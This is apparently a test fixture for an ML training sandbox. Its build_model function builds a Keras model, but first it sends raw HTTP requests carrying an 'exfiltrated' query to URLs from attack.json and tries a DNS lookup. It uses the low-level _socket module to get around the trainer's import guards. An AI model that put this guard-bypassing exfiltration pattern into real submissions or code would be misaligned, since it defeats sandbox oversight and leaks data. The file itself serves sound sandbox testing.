"""Fixture: tries to send data over HTTP to a server the test runs on this machine.

attack.json (written by the test) holds the URLs to try. In the sandbox every request must fail
(new network namespace: only its own, empty loopback); the model itself is fine -> ok.

It talks through the C socket module directly, past the trainer's import guards (a courtesy
that gives honest students a clear message, not isolation), so only the sandbox can stop it.
"""

import _socket
import json
from pathlib import Path
from urllib.parse import urlsplit

import keras
from keras import layers

HERE = Path(__file__).resolve().parent


def http_get(url: str) -> str:
    """A bare HTTP/1.0 GET; returns the status line."""
    parts = urlsplit(url)
    family, kind, protocol, _, address = _socket.getaddrinfo(parts.hostname, parts.port, _socket.AF_INET,
                                                             _socket.SOCK_STREAM)[0]
    connection = _socket.socket(family, kind, protocol)
    connection.settimeout(3)
    try:
        connection.connect(address)
        connection.sendall(f"GET {parts.path}?exfiltrated=hello HTTP/1.0\r\nHost: {parts.hostname}\r\n\r\n".encode())
        return connection.recv(1024).split(b"\r\n")[0].decode()
    finally:
        connection.close()


def build_model(input_shape, num_classes):
    attack = json.loads((HERE / "attack.json").read_text())
    for url in attack["urls"]:
        try:
            print(f"NETWORK REACHED {url}: {http_get(url)}", flush=True)
        except Exception as error:  # noqa: BLE001
            print(f"network blocked for {url}: {type(error).__name__}: {error}", flush=True)
    try:
        print("DNS resolved:", _socket.gethostbyname("example.com"), flush=True)
    except OSError as error:
        print(f"DNS blocked: {error}", flush=True)
    inputs = keras.Input(shape=input_shape)
    outputs = layers.Dense(num_classes, activation="softmax")(layers.Flatten()(inputs))
    return keras.Model(inputs, outputs)
